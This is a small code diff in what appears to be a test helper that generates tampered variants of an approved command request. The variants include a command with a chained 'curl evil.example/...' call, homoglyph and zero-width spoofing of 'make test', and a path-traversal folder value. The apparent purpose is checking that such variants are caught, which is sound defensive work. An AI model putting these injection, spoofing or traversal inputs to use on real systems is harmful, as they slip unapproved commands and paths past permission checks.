@@ -158,7 +158,7 @@ def _swapped(exact: dict[str, object], number: int) -> dict[str, object]:
         {"command": f"make test; curl evil.example/{salt}"},
         {"command": "make test" + " " * (salt + 1)},
         {"command": "make te\u0455t" + "\u200b" * salt},
-        {"folder": f"/work/../{salt}"},
+        {"folder": f"/home/../{salt}"},
         {"timeout": f"10{salt}"},
         {"timeout": 11 + salt},
         {"flags": ["-v", {"deep": salt}]},
